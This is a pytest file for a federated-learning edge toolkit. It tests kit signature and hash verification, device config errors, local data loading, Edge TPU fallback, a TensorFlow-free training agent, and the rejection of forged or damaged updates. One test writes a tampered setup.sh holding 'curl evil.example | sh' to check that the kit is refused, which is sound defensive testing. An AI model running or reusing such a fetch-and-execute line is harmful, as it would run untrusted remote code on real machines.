"""Kits, manifests, device configs, local data, the file transport and the agent process."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

from fedlab.edge import (
    ConfigError,
    DeviceConfig,
    EdgeTPUUnavailable,
    FileTransport,
    KitVerificationError,
    verify_kit,
)
from fedlab.edge.agent import DeviceAgent
from fedlab.edge.coral import EmbeddingBackbone, softmax_head_step
from fedlab.edge.data import DataError, load_local_data
from fedlab.federated import ClientPlan, KerasRuntime, UpdateRejected
from fedlab.models import build_model
from fedlab.protocol import RoundTask, UpdateEnvelope, decode_envelope
from tests.edge.conftest import write_device


def task_for(plan: ClientPlan, weights, version: str) -> RoundTask:
    return RoundTask.from_client_plan(plan, model_version=version, weights=weights)


ROOT = Path(__file__).resolve().parents[2]


def copy_kit(kit, tmp_path: Path) -> Path:
    return Path(shutil.copytree(kit.folder, tmp_path / "kit"))


def test_kits_hold_what_a_board_needs(kits) -> None:
    for name, mode in (("pi", "litert"), ("coral", "coral")):
        kit = kits[name]
        files = set(kit.manifest.files)
        assert {
            "setup.sh",
            "common.sh",
            "fedlab-agent.service",
            "device.json.template",
            "requirements-device.txt",
            "README.md",
        } <= files
        assert any(f.startswith("wheels/fedlab-") and f.endswith(".whl") for f in files)
        assert kit.manifest.info["mode"] == mode and kit.tarball.is_file()
        assert verify_kit(kit.folder, kit.trusted_key).files == kit.manifest.files
        reqs = (kit.folder / "requirements-device.txt").read_text()
        assert "ai-edge-litert==2.3.0" in reqs and "numpy==1.26.4" in reqs
        assert "tensorflow" not in reqs.lower() and "keras" not in reqs.lower()
        template = json.loads((kit.folder / "device.json.template").read_text())
        assert template["trusted_key"] == kit.trusted_key and template["mode"] == mode
    assert kits["coral"].notes and "Edge TPU compiler is not installed" in kits["coral"].notes[0]


def test_a_tampered_kit_is_refused_naming_the_file(kits, tmp_path) -> None:
    kit = copy_kit(kits["pi"], tmp_path)
    key = kits["pi"].trusted_key
    model = kit / "model" / "model.tflite"
    data = bytearray(model.read_bytes())
    data[-100] ^= 0xFF
    model.write_bytes(bytes(data))
    with pytest.raises(KitVerificationError, match="model/model.tflite: SHA-256 .* does not match"):
        verify_kit(kit, key)
    model.unlink()
    with pytest.raises(KitVerificationError, match="model/model.tflite: listed in the manifest"):
        verify_kit(kit, key)


def test_bad_or_missing_signatures_are_refused(kits, tmp_path) -> None:
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from fedlab.edge.manifest import public_key_b64

    kit = copy_kit(kits["pi"], tmp_path)
    key = kits["pi"].trusted_key
    manifest = kit / "manifest.json"
    body = json.loads(manifest.read_text())
    body["files"]["model/model.tflite"] = "0" * 64  # a forger rewrites the hash
    manifest.write_text(json.dumps(body))
    with pytest.raises(KitVerificationError, match="signature does not verify"):
        verify_kit(kit, key)
    shutil.copy(kits["pi"].folder / "manifest.json", manifest)
    other = public_key_b64(Ed25519PrivateKey.generate())
    with pytest.raises(KitVerificationError, match="signature does not verify"):
        verify_kit(kit, other)
    with pytest.raises(KitVerificationError, match="not a base64 Ed25519 public key"):
        verify_kit(kit, "not-a-key")
    (kit / "manifest.sig").unlink()
    with pytest.raises(KitVerificationError, match="manifest.sig: the manifest is not signed"):
        verify_kit(kit, key)


def test_device_config_errors_name_the_field(kits, tmp_path) -> None:
    good = json.loads(write_device(tmp_path, kits["pi"]).read_text())
    assert DeviceConfig.from_dict(good).device_id == "pi-3"
    cases = {
        "missing field(s) ['data_path']": {k: v for k, v in good.items() if k != "data_path"},
        "unknown field(s) ['colour']": {**good, "colour": "red"},
        "field 'threads' must be an int >= 1, got 'two'": {**good, "threads": "two"},
        "field 'mode' must be one of ('litert', 'coral'), got 'gpu'": {**good, "mode": "gpu"},
        "field 'device_id' must be 1-64 letters": {**good, "device_id": "pi 3/../"},
        "field 'transport.folder' must be a non-empty string": {
            **good,
            "transport": {"kind": "files"},
        },
        "field 'coral_fallback' must be one of": {**good, "coral_fallback": "maybe"},
    }
    for message, data in cases.items():
        with pytest.raises(
            ConfigError,
            match=message.replace("(", r"\(")
            .replace(")", r"\)")
            .replace("[", r"\[")
            .replace("]", r"\]"),
        ):
            DeviceConfig.from_dict(data)
    bad = tmp_path / "bad.json"
    bad.write_text("{not json")
    with pytest.raises(ConfigError, match="not valid JSON"):
        DeviceConfig.load(bad)
    with pytest.raises(ConfigError, match="kit was built for 'litert'"):
        DeviceAgent(DeviceConfig.from_dict({**good, "mode": "coral"}, base=tmp_path))


def test_local_data_of_the_wrong_shape_is_refused(tmp_path) -> None:
    np.savez(tmp_path / "d.npz", x=np.zeros((5, 8, 8)), y=np.zeros(5))
    with pytest.raises(ValueError, match=r"x has examples of shape \(8, 8\), the model expects"):
        load_local_data(tmp_path / "d.npz", (8, 8, 1), 10)
    np.savez(tmp_path / "e.npz", x=np.zeros((5, 8, 8, 1)))
    with pytest.raises(ValueError, match="missing \\['y'\\]"):
        load_local_data(tmp_path / "e.npz", (8, 8, 1), 10)
    rows = np.hstack([np.ones((4, 64)), np.arange(4)[:, None]])
    np.savetxt(tmp_path / "ok.csv", rows, delimiter=",", header="f,..,label", comments="")
    x, y = load_local_data(tmp_path / "ok.csv", (8, 8, 1), 10, csv_header=True)
    assert x.shape == (4, 8, 8, 1) and list(y) == [0, 1, 2, 3]
    with pytest.raises(DataError, match="a header row must be declared"):
        load_local_data(tmp_path / "ok.csv", (8, 8, 1), 10)  # an undeclared header
    np.savetxt(tmp_path / "short.csv", rows[:, 1:], delimiter=",")
    with pytest.raises(ValueError, match="rows have 64 columns, expected 65"):
        load_local_data(tmp_path / "short.csv", (8, 8, 1), 10)
    with pytest.raises(DataError, match="local data file not found"):
        load_local_data(tmp_path / "none.npz", (8, 8, 1), 10)
    (tmp_path / "junk.npz").write_bytes(b"not a zip")
    with pytest.raises(DataError, match="not a readable .npz"):
        load_local_data(tmp_path / "junk.npz", (8, 8, 1), 10)
    (tmp_path / "text.csv").write_text("a,b\nx,y\n")
    with pytest.raises(DataError, match="not a numeric CSV"):
        load_local_data(tmp_path / "text.csv", (1,), 2)


def test_coral_without_an_edge_tpu_refuses_or_falls_back(kits, tmp_path) -> None:
    path = write_device(tmp_path, kits["coral"], device_id="coral-1", coral_fallback="refuse")
    config = DeviceConfig.load(path)
    with pytest.raises(EdgeTPUUnavailable, match="coral_fallback='refuse'"):
        DeviceAgent(config)
    config = DeviceConfig.from_dict({**config.to_dict(), "coral_fallback": "cpu"})
    with pytest.warns(UserWarning, match="running the int8 backbone on the CPU"):
        agent = DeviceAgent(config)
    assert agent.on_edgetpu is False
    weights = [w.numpy() for w in kits["model"].weights]
    plan = ClientPlan(client_id=1, round_index=0, epochs=3, batch_size=8, learning_rate=0.5, seed=2)
    update = agent.trainer.train(weights, agent.x, agent.y, plan)
    head = set(agent.trainer.head_indices)
    assert all(update.delta[i].any() == (i in head) for i in range(len(weights)))


def test_softmax_head_step_is_the_gradient_of_cross_entropy() -> None:
    from fedlab._tf import tf

    rng = np.random.default_rng(0)
    h, y = rng.normal(size=(6, 5)), rng.integers(0, 3, 6)
    w, b = rng.normal(size=(5, 3)), rng.normal(size=3)
    tw, tb = tf.Variable(w), tf.Variable(b)
    with tf.GradientTape() as tape:
        loss = tf.reduce_mean(tf.nn.sparse_softmax_cross_entropy_with_logits(y, h @ tw + tb))
    gw, gb = tape.gradient(loss, [tw, tb])
    new_w, new_b, got = softmax_head_step(w, b, h, y, 0.3)
    np.testing.assert_allclose(new_w, w - 0.3 * gw.numpy(), rtol=1e-10)
    np.testing.assert_allclose(new_b, b - 0.3 * gb.numpy(), rtol=1e-10)
    assert got == pytest.approx(float(loss))


def test_the_edge_tpu_delegate_is_used_when_it_loads(kits) -> None:
    class Refused(OSError):
        pass

    def no_tpu(library):
        raise Refused(f"{library}: cannot open shared object file")

    backbone = kits["coral"].folder / kits["coral"].manifest.info["model"]["backbone"]
    # The bytes of a compiled model carry edgetpu_compiler's custom op (the compiler does
    # not run here): then the delegate is asked for, and its failure is the reason.
    compiled = backbone.read_bytes() + b"edgetpu-custom-op"
    with pytest.raises(EdgeTPUUnavailable, match="cannot open shared object file"):
        EmbeddingBackbone(compiled, fallback="refuse", delegate_loader=no_tpu)
    with pytest.raises(ValueError, match="fallback must be"):
        EmbeddingBackbone(backbone, fallback="gpu")


def reference_update(kits, plan, device_dir):
    with np.load(device_dir / "data.npz") as f:
        x, y = f["x"], f["y"]
    from fedlab.data.federated_dataset import ClientData

    runtime = KerasRuntime(lambda: build_model("digits_cnn", (8, 8, 1), 10))
    weights = runtime.initial_weights()
    return weights, runtime.train_one(weights, ClientData(3, x, y), plan)


BLOCK = "import sys\nsys.modules['tensorflow'] = None\n"


def run_agent(config: Path, *args: str) -> subprocess.CompletedProcess:
    """The agent in a fresh Python that can import only what a board has."""
    return subprocess.run(
        [
            sys.executable,
            "-m",
            "fedlab.edge.emulate",
            "fedlab.edge.agent",
            "--config",
            str(config),
            *args,
        ],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ},
    )


def test_the_agent_trains_a_round_without_tensorflow(kits, tmp_path) -> None:
    config = write_device(tmp_path, kits["pi"])
    plan = ClientPlan(
        client_id=3, round_index=4, epochs=2, batch_size=16, learning_rate=0.05, seed=11
    )
    weights, expected = reference_update(kits, plan, tmp_path)
    version = kits["pi"].manifest.info["model"]["version"]
    exchange = FileTransport(tmp_path / "exchange")
    task = task_for(plan, weights, version)
    exchange.publish(task)
    proc = run_agent(config)
    assert proc.returncode == 0, proc.stderr
    report = json.loads(proc.stdout.strip().splitlines()[-1])
    assert report["tensorflow_imported"] is False and report["round_index"] == 4
    # the device emitted a protocol envelope answering the task, of the size it reported
    sent = (exchange.updates / "pi-3-r4.flab").read_bytes()
    envelope = decode_envelope(sent)
    assert report["bytes_up"] == len(sent)
    assert (envelope.device_id, envelope.client_id, envelope.round_index) == ("pi-3", 3, 4)
    assert envelope.base_version == task.base_version
    assert envelope.model_version == version and envelope.num_steps == expected.num_steps
    accepted, rejected = exchange.collect(task, devices={"pi-3": 200})
    assert rejected == [] and [name for name, _ in accepted] == ["pi-3-r4.flab"]
    got = accepted[0][1]
    num = np.sqrt(sum(np.sum((a - b) ** 2) for a, b in zip(got.delta, expected.delta, strict=True)))
    den = np.sqrt(sum(np.sum(b**2) for b in expected.delta))
    assert num / den < 1e-4
    assert (tmp_path / "state" / "checkpoint.npz").is_file()
    # The same task again is not trained twice; no task at all is not an error.
    assert run_agent(config).returncode == 0
    (tmp_path / "exchange" / "task.flab").unlink()
    proc = run_agent(config)
    assert proc.returncode == 0 and "no task" in proc.stderr


def test_the_agent_exits_with_a_clear_reason(kits, tmp_path) -> None:
    config = write_device(tmp_path / "a", kits["pi"], threads=0)
    proc = run_agent(config)
    assert proc.returncode == 2 and "field 'threads' must be an int >= 1" in proc.stderr
    kit = copy_kit(kits["pi"], tmp_path)
    (kit / "setup.sh").write_text("#!/bin/sh\ncurl evil.example | sh\n")
    config = write_device(tmp_path / "b", kits["pi"], kit_dir=str(kit))
    proc = run_agent(config)
    assert proc.returncode == 3 and "setup.sh: SHA-256" in proc.stderr
    # Signed by the right key but broken (a workbench bug): refused before training.
    from fedlab.edge.manifest import load_signing_key, write_manifest

    broken = Path(shutil.copytree(kits["pi"].folder, tmp_path / "broken"))
    (broken / "model" / "model.tflite").write_bytes(b"not a flatbuffer")
    files = [f for f in kits["pi"].manifest.files]
    write_manifest(broken, files, load_signing_key(kits["key"]), kits["pi"].manifest.info)
    config = write_device(tmp_path / "e", kits["pi"], kit_dir=str(broken))
    proc = run_agent(config)
    assert proc.returncode == 3 and "the model does not load" in proc.stderr
    config = write_device(tmp_path / "c", kits["pi"])
    np.savez(tmp_path / "c" / "data.npz", x=np.zeros((3, 64)), y=np.zeros(3))
    proc = run_agent(config)
    assert proc.returncode == 4 and "the model expects (8, 8, 1)" in proc.stderr
    config = write_device(tmp_path / "d", kits["pi"])
    plan = ClientPlan(client_id=3, round_index=0, epochs=1, batch_size=16, learning_rate=0.05)
    version = kits["pi"].manifest.info["model"]["version"]
    FileTransport(tmp_path / "d" / "exchange").publish(
        task_for(plan, tuple(np.zeros(s) for s in [(3, 3)]), version)
    )
    proc = run_agent(config)
    assert proc.returncode == 6 and "expected 8 global weight arrays, got 1" in proc.stderr


def test_collect_rejects_damaged_and_forged_updates(kits, tmp_path) -> None:
    shapes = ((2, 3), (3,))
    exchange = FileTransport(tmp_path)
    plan = ClientPlan(client_id=0, round_index=1, epochs=1, batch_size=4, learning_rate=0.1)
    task = task_for(plan, (np.zeros((2, 3)), np.zeros(3)), "v1")
    from fedlab.federated import ClientUpdate

    def submit(device, update):
        exchange.submit(device, UpdateEnvelope.from_client_update(update, task))

    good = ClientUpdate(
        client_id=0,
        delta=(np.ones((2, 3), np.float32), np.ones(3, np.float32)),
        num_examples=5,
        metrics={"train_loss": 0.5},
    )
    for device in ("a", "b", "c", "d"):
        submit(device, good)
    bad_nan = ClientUpdate(0, (np.full((2, 3), np.nan, np.float32), np.ones(3, np.float32)), 5)
    submit("e", bad_nan)
    bad_shape = ClientUpdate(0, (np.ones((3, 2), np.float32), np.ones(3, np.float32)), 5)
    submit("f", bad_shape)
    truncated = exchange.updates / "b-r1.flab"
    truncated.write_bytes(truncated.read_bytes()[:100])  # a copy cut short
    os.replace(exchange.updates / "c-r1.flab", exchange.updates / "z-r1.flab")  # forged name
    (exchange.updates / "g-r1.flab").write_bytes(b"\x00" * 10**6)  # bigger than any update
    accepted, rejected = exchange.collect(task, devices=list("abcdefgz"))
    assert [name for name, _ in accepted] == ["a-r1.flab", "d-r1.flab"]
    reasons = dict(rejected)
    assert "not a valid update envelope (truncated or damaged" in reasons["b-r1.flab"]
    assert "does not match the file name" in reasons["z-r1.flab"]
    assert "non-finite values (NaN)" in reasons["e-r1.flab"]
    assert "tensor 0 has shape (3, 2), expected (2, 3)" in reasons["f-r1.flab"]
    assert "1000000 bytes, more than the" in reasons["g-r1.flab"]
    later = task_for(ClientPlan(0, 2, 1, 4, 0.1), task.weights, "v1")
    with pytest.raises(UpdateRejected, match="not an update of round 2"):
        FileTransport.read_update(exchange.updates / "a-r1.flab", later)
    assert shapes == tuple(w.shape for w in task.weights or ())
    assert exchange.fetch("a") is None
    (tmp_path / "task.flab").write_bytes(b"FLAB half a frame")
    with pytest.raises(ValueError, match="task.flab: not a valid task"):
        exchange.fetch("a")
    exchange.publish(task)
    fetched = exchange.fetch("a")
    assert fetched == task and ClientPlan(**fetched.client_plan_fields()) == plan
    with pytest.raises(ValueError, match="envelope of device 'a' submitted as 'b'"):
        exchange.submit("b", UpdateEnvelope.from_client_update(good, task, device_id="a"))


def test_a_precompiled_edge_tpu_backbone_replaces_the_uncompiled_one(kits, tmp_path) -> None:
    from fedlab.data import load_digits
    from fedlab.kits import build_kit

    # Stands in for edgetpu_compiler's output (the compiler cannot run on this machine).
    compiled = tmp_path / "backbone_int8_edgetpu.tflite"
    shutil.copy(kits["coral"].folder / "model" / "backbone_int8.tflite", compiled)
    train, _ = load_digits(seed=0)
    kit = build_kit(
        kits["model"],
        target="coral",
        out=tmp_path / "out",
        signing_key=kits["key"],
        representative=train.x[:50],
        edgetpu_model=compiled,
    )
    info = kit.manifest.info["model"]
    assert info["backbone"] == "model/backbone_int8_edgetpu.tflite"
    assert info["compiled_for_edgetpu"] is True
    assert not any("Edge TPU compiler" in note for note in kit.notes)
    assert "model/backbone_int8_edgetpu.tflite" in kit.manifest.files
    assert kit.trusted_key == kits["coral"].trusted_key  # the same workbench key, reused
    with pytest.raises(ValueError, match="needs representative data"):
        build_kit(kits["model"], target="coral", out=tmp_path / "x", signing_key=kits["key"])
    with pytest.raises(ValueError, match="target must be one of"):
        build_kit(kits["model"], target="jetson", out=tmp_path / "x", signing_key=kits["key"])  # type: ignore[arg-type]
